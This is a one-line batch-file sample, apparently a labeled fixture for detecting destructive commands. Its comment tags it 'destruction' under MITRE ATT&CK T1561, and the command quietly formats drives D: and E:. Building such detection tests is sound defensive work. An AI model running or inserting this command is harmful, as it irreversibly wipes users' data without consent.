@rem expect: destruction | source: MITRE ATT&CK T1561
for %%d in (D: E:) do format %%d /y /q
